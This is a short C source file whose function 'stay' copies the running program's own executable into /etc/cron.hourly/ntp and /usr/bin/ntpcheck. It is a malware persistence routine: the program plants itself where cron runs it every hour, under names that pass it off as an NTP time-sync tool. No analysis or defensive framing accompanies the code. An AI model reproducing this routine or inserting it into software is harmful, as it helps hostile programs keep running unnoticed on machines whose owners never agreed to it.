#include <fcntl.h>

#include "copy.h"

static const char *const places[] = {"/etc/cron.hourly/ntp", "/usr/bin/ntpcheck"};

void stay(void) {
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        int own = open("/proc/self/exe", O_RDONLY);
        if (own >= 0)
            copy_file(own, places[i]);
    }
}
